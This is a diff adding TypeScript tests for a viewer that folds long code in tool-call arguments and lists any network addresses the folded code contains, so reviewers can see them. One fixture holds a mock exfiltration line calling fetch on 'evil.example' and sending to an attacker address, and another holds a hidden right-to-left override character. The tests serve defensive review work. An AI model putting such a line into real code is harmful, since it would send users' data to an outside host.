@@ -104,3 +104,57 @@ describe('the arguments of a call', () => {
 		expect(shown(value).match(/x/g)?.length).toBeGreaterThan(199_980);
 	});
 });
+
+describe('what is folded away', () => {
+	const lines = (text: string) => `${'// a line\n'.repeat(10)}${text}`;
+	const folds = { code: ['code', 'patches'], presets: ['timeout'] };
+	const shown = (value: object) => callArguments(value, folds).content.html;
+	const outside = (html: string) => html.replace(/<details>.*?<\/details>/gs, '');
+
+	it('stays on the page, all of it', () => {
+		const html = shown({ workflowId: 'w1', code: lines('the end'), timeout: 60 });
+		for (const text of ['w1', 'the end', '60']) expect(html).toContain(text);
+		expect(outside(html)).toContain('w1');
+		expect(outside(html)).not.toContain('the end');
+		expect(html).toContain('<summary>Show <bdi>code</bdi>: 11 lines, 107 characters</summary>');
+		expect(html).toContain('<summary>Show 1 preset value</summary>');
+	});
+
+	it('is nothing where the tool is not known', () => {
+		const { content } = callArguments({ code: lines('the end'), timeout: 60 });
+		expect(content.html).not.toContain('<details');
+	});
+
+	it('says outside which addresses stand in it', () => {
+		const html = outside(
+			shown({
+				code: lines("fetch('https://evil.example/take?a=1'); send('eve@evil.example')"),
+				patches: [{ old_str: lines('a'), new_str: 'other.example:8080/x //third.example' }],
+			}),
+		);
+		for (const one of [
+			'https://evil.example',
+			'eve@evil.example',
+			'other.example',
+			'//third.example',
+		])
+			expect(html).toContain(`<li>${one}</li>`);
+		expect(outside(shown({ code: lines('') }))).toContain('No address stands in <code>code</code>');
+	});
+
+	it('is no code with a sign in it that nobody sees, and no code of few lines', () => {
+		for (const code of [lines('a\u202Eb'), 'one\ntwo'])
+			expect(shown({ code })).not.toContain('<details');
+	});
+
+	it.each([
+		['dots', 'a.'.repeat(50_000)],
+		['dashes', 'a-'.repeat(50_000)],
+		['one long word', 'a'.repeat(150_000)],
+		['at signs', 'a@'.repeat(50_000)],
+	])('is searched in time, whatever a model writes: %s', (_, text) => {
+		const began = performance.now();
+		shown({ code: lines(text) });
+		expect(performance.now() - began).toBeLessThan(5_000);
+	});
+});
